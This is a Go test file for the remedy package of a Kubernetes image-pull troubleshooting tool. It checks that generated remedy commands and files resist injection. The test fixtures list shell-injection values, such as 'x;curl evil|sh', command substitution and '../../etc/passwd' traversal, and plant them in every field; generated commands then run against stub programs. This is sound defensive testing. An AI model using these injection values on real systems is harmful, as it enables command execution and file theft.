// Copyright 2026 The Pullmedic Authors
// SPDX-License-Identifier: Apache-2.0

package remedy

import (
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/pullmedic/pullmedic/evidence"
	"github.com/pullmedic/pullmedic/kubelet/keyring"
)

func sha256Of(data []byte) []byte { sum := sha256.Sum256(data); return sum[:] }

// hostile are values that somebody may have given to an image, a tag, a secret,
// an annotation, a node. Each would leave a canary if a shell read it.
func hostile() []string {
	return []string{
		"x;curl evil|sh", "x;touch canary", "$(touch canary)", "`touch canary`", "a\ntouch canary", "it's;touch canary;'", `"quoted";touch canary`, "x' ; touch canary #",
		"-rf", "--flag", "--kubeconfig=/tmp/evil", "a&touch canary", "a>canary", "x|tee canary", "ünïcode", "a\u202eb", "a\x1b[2Jb", "a\x00b", "../../etc/passwd", "${IFS}", "~root", "*", "{a,b}", "123", "null", strings.Repeat("x", 5000), "",
	}
}

// places are where a hostile value can stand.
func places() map[string]func(*situation, string) {
	return map[string]func(*situation, string){
		"node": func(s *situation, v string) { s.d.Pull.Node = v }, "namespace": func(s *situation, v string) { s.d.Pull.Namespace = v },
		"pod": func(s *situation, v string) { s.d.Pull.Pod = v }, "container": func(s *situation, v string) { s.d.Pull.Container = v },
		"host": func(s *situation, v string) { s.d.Pull.Reference.Host = v }, "repository": func(s *situation, v string) { s.d.Pull.Reference.Repository = v },
		"tag": func(s *situation, v string) { s.d.Pull.Reference.Tag = v }, "digest": func(s *situation, v string) { s.d.Pull.Reference.Digest = v },
		"image": func(s *situation, v string) { s.d.Pull.Image = v }, "kind": func(s *situation, v string) { s.d.Pull.Owner.Kind = v }, "owner": func(s *situation, v string) { s.d.Pull.Owner.Name = v },
		"secret": func(s *situation, v string) { s.d.Pull.PullSecrets = []string{v} }, "subject": func(s *situation, v string) { s.d.Causes[0].Subject.Name = v },
		"secret subject": func(s *situation, v string) {
			s.d.Causes[0].Subject = evidence.Subject{Kind: evidence.SubjectSecret, Name: "shop/" + v}
		},
		"platform": func(s *situation, v string) { s.d.Pull.Platform = evidence.Platform{OS: v, Arch: v, Variant: v} }, "runtime": func(s *situation, v string) { s.d.Pull.Runtime = v },
		"other platform": func(s *situation, v string) { s.k.Platforms = []evidence.Platform{{OS: "linux", Arch: v}} },
		"target":         func(s *situation, v string) { s.k.Target.Name = v }, "target namespace": func(s *situation, v string) { s.k.Target.Namespace = v },
		"proven secret": func(s *situation, v string) {
			s.k.Secrets = []Secret{{Secret: keyring.Secret{Name: v}, Proven: true}}
		},
		"copy": func(s *situation, v string) {
			s.o.Mirror, s.k.Elsewhere = "", []Copy{{Image: v + "/acme/team/api:1"}, {Image: "quay.io/" + v + "/acme/team/api:1", Where: "runs in shop"}}
		},
		"known digest": func(s *situation, v string) {
			s.k.Digests = map[string]string{s.d.Pull.Image: v}
		},
		"--to": func(s *situation, v string) { s.o.To = v }, "--mirror": func(s *situation, v string) { s.o.Mirror = v }, "--mirror's path": func(s *situation, v string) { s.o.Mirror = "m.example/" + v },
		"--proxy": func(s *situation, v string) { s.o.Proxy = v }, "--proxy's host": func(s *situation, v string) { s.o.Proxy = "http://" + v }, "--ca's name": func(s *situation, v string) { s.o.CAFile = v },
		"finding": func(s *situation, v string) {
			s.d.Findings = []evidence.Finding{{Outcome: evidence.RateLimited, Subject: evidence.Subject{Kind: evidence.SubjectBlobStore, Name: v}, Details: map[string]string{"retryAfter": v, "window": v, "host": v}}}
		},
	}
}

// printed are all commands and files of all remedies that are handed over,
// with the ordinary values and with every hostile value in every place.
func printed(t *testing.T) (commands map[string]string, files map[string]File) {
	t.Helper()
	c, ids := causes(t)
	commands, files = map[string]string{}, map[string]File{}
	own := map[string]bool{}
	collect := func(where string, r Remedy, bad string) {
		if r.Kind == Applied {
			return
		}
		if len(bad) <= 4 || !own[r.ID] {
			bad = "no value"
		}
		for _, s := range slices.Concat(r.Steps, r.Lasting, r.Undo) {
			for _, command := range s.Commands {
				commands[command] = where + ", " + r.ID
				if strings.Contains(command, bad) {
					t.Errorf("%s, %s: the value is in the command %q", where, r.ID, command)
				}
			}
			if s.File != nil {
				files[s.File.Path+"\n"+s.File.Content] = *s.File
				if strings.Contains(s.File.Path, bad) || strings.Contains(s.File.Content, bad) {
					t.Errorf("%s, %s: the value is in the file %s", where, r.ID, s.File.Path)
				}
			}
			for _, text := range []string{r.Title, s.What, s.Where, s.Afterwards} {
				if own[r.ID] && strings.IndexFunc(text, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) >= 0 {
					t.Errorf("%s, %s says %q", where, r.ID, text)
				}
			}
		}
	}
	bad, into := hostile(), places()
	for _, id := range ids {
		for name, s := range situations(t, id) {
			p := planner{catalog: c, Case: s.k, d: s.d, cause: s.d.Causes[0], o: s.o}
			for _, r := range p.handOver() {
				own[r.ID] = true
			}
			for _, r := range s.plan(t, c) {
				collect(id+", "+name, r, "")
			}
		}
		bases := []situation{
			situations(t, id)["a bare pod"], situations(t, id)["an image volume"], situations(t, id)["an ephemeral container"],
			shop(id, "docker.io").given(t).asJob(), shop(id, "123456789012.dkr.ecr.eu-west-1.amazonaws.com").given(t),
			shop(id, "europe-docker.pkg.dev").given(t), shop(id, "acme.azurecr.io").given(t),
		}
		for i, value := range bad {
			all := bases[3]
			all.d.Causes = slices.Clone(all.d.Causes)
			for place, put := range into {
				one := bases[(i+len(place))%len(bases)]
				one.d.Causes = slices.Clone(one.d.Causes)
				put(&one, value)
				put(&all, value)
				for _, r := range one.plan(t, c) {
					collect(id+", "+place+" "+fmt.Sprintf("%.20q", value), r, value)
				}
			}
			for _, r := range all.plan(t, c) {
				collect(id+", everywhere", r, value)
			}
		}
	}
	return commands, files
}

// programs that handed-over commands may call.
func programs() []string {
	return []string{
		"aws", "az", "cat", "chmod", "chronyc", "containerd", "cosign", "cp", "crictl", "crio", "ctr", "curl", "date", "df", "dmesg", "docker", "du", "find", "findmnt", "gcloud",
		"getent", "grep", "ip", "journalctl", "kubectl", "ls", "mkdir", "mv", "nft", "openssl", "ps", "resolvectl", "rm", "sed", "skopeo", "systemctl", "tar", "timedatectl", "update-ca-certificates",
	}
}

// Hostile values get into no command and no file.
func TestHostileValues(t *testing.T) {
	commands, files := printed(t)
	t.Run("every command does what it says", func(t *testing.T) { commandsDoWhatTheySay(t, commands) })
	t.Run("every file is what its reader takes", func(t *testing.T) { filesAreWhatTheirReadersTake(t, files) })
}

// commandsDoWhatTheySay runs every printed command in a shell whose
// programs are stand-ins that write down how they were called and do nothing,
// and compares that with what the command's own text says when it is read by
// the plainest rules: words between blanks, single quotes, and few operators.
func commandsDoWhatTheySay(t *testing.T, commands map[string]string) {
	if len(commands) < 200 {
		t.Fatalf("only %d commands", len(commands))
	}
	stubs, calls := t.TempDir(), t.TempDir()
	for _, name := range append(programs(), "touch", "sh", "bash", "tee", "id", "env") {
		script := fmt.Sprintf("#!/bin/sh\nprintf '%%s\\0' %s \"$@\" > %s/$$\n", name, calls)
		if err := os.WriteFile(filepath.Join(stubs, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	used := map[string]bool{}
	for command, where := range commands {
		sandboxed(t, command, where, stubs, calls, used)
	}
	for _, name := range programs() {
		if !used[name] && name != "cp" { // which keeps a file, and none is there
			t.Errorf("%s is no longer called by any command: take it from the list", name)
		}
	}
	t.Logf("%d commands", len(commands))
}

func sandboxed(t *testing.T, command, where, stubs, calls string, used map[string]bool) {
	t.Helper()
	if strings.ContainsAny(command, "\n\r") {
		t.Errorf("%s: %q is not one line", where, command)
		return
	}
	parts, err := read(command)
	if err != nil {
		t.Errorf("%s: %q: %v", where, command, err)
		return
	}
	if said, err := exec.CommandContext(t.Context(), "bash", "-n", "-c", command).CombinedOutput(); err != nil {
		t.Errorf("%s: bash -n of %q: %v: %s", where, command, err, said)
	}
	dir := t.TempDir()
	shells := [][]string{{"/bin/sh", "-c", command}}
	if !strings.ContainsAny(command, "<>") {
		shells = append(shells, []string{"/bin/bash", "-r", "-c", command})
	}
	for _, words := range shells {
		run := exec.CommandContext(t.Context(), words[0], words[1:]...)
		run.Dir, run.Env = dir, []string{"PATH=" + stubs, "HOME=" + dir, "ACCOUNT=a b", "CLUSTER=c", "GROUP=g", "PRINCIPAL=p", "SCOPE=s", "WORKSPACE=w", "ADDRESS=1.2.3.4", "KEY=k"}
		if said, err := run.CombinedOutput(); err != nil && len(said) > 0 {
			t.Errorf("%s: %s %q: %v: %s", where, words[0], command, err, said)
		}
		compare(t, where, command, parts, called(t, calls), used)
	}
	left, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, entry := range left {
		if !slices.Contains([]string{"job-before.json", "job-new.json", "pod-before.json", "pod-new.json"}, entry.Name()) {
			t.Errorf("%s: %q made the file %s", where, command, entry.Name())
		}
	}
}

// called reads and removes what the stand-ins wrote down.
func called(t *testing.T, calls string) [][]string {
	t.Helper()
	entries, err := os.ReadDir(calls)
	if err != nil {
		t.Fatal(err)
	}
	var all [][]string
	for _, e := range entries {
		path := filepath.Join(calls, e.Name())
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, strings.Split(strings.TrimSuffix(string(data), "\x00"), "\x00"))
		if err := os.Remove(path); err != nil {
			t.Fatal(err)
		}
	}
	return all
}

// compare checks that nothing was called but what stands there, as it stands
// there; of what follows || and && not all is called, and test is the shell's.
func compare(t *testing.T, where, command string, parts, got [][]string, used map[string]bool) {
	t.Helper()
	for _, call := range got {
		used[call[0]] = true
		if !slices.Contains(programs(), call[0]) || !slices.ContainsFunc(parts, func(p []string) bool { return slices.Equal(p, call) }) {
			t.Errorf("%s: %q called %q", where, command, call)
		}
	}
	if !strings.Contains(command, "&& ") && !strings.Contains(command, "|| ") && len(got) != len(parts) {
		t.Errorf("%s: %q called %d programs, want %d", where, command, len(got), len(parts))
	}
}

// read reads a command line into the calls that it makes, by rules that are
// stricter than a shell's: whatever stands outside of single quotes must be a
// harmless character, an operator between blanks, or a variable that has to be
// set, between double quotes.
func read(command string) ([][]string, error) {
	var calls [][]string
	var call []string
	redirect := false
	for rest := command; rest != ""; {
		word, more, operator, err := next(rest)
		if err != nil {
			return nil, err
		}
		rest = more
		switch {
		case operator && (word == ">" || word == "<"):
			redirect = true
		case operator:
			calls, call = append(calls, call), nil
		case redirect:
			redirect = false
		default:
			call = append(call, word)
		}
	}
	return append(calls, call), nil
}

func next(rest string) (word, more string, operator bool, err error) {
	for _, o := range []string{"| ", "&& ", "|| ", "> ", "< "} {
		if strings.HasPrefix(rest, o) {
			return strings.TrimSpace(o), rest[len(o):], true, nil
		}
	}
	var b strings.Builder
	for rest != "" && rest[0] != ' ' {
		switch c := rest[0]; {
		case c == '\'':
			inner, after, ok := strings.Cut(rest[1:], "'")
			if !ok {
				return "", "", false, fmt.Errorf("an open quote")
			}
			b.WriteString(inner)
			rest = after
		case strings.HasPrefix(rest, `\'`):
			b.WriteByte('\'')
			rest = rest[2:]
		case strings.HasPrefix(rest, `"${`):
			name, after, ok := strings.Cut(rest[3:], `:?}"`)
			values := map[string]string{"ACCOUNT": "a b", "CLUSTER": "c", "GROUP": "g", "PRINCIPAL": "p", "SCOPE": "s", "WORKSPACE": "w", "ADDRESS": "1.2.3.4", "KEY": "k"}
			if !ok || values[name] == "" {
				return "", "", false, fmt.Errorf("the variable %q", name)
			}
			b.WriteString(values[name])
			rest = after
		case strings.IndexByte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_%+=:,./@-!", c) >= 0:
			b.WriteByte(c)
			rest = rest[1:]
		default:
			return "", "", false, fmt.Errorf("the character %q stands outside of quotes", c)
		}
	}
	return b.String(), strings.TrimPrefix(rest, " "), false, nil
}
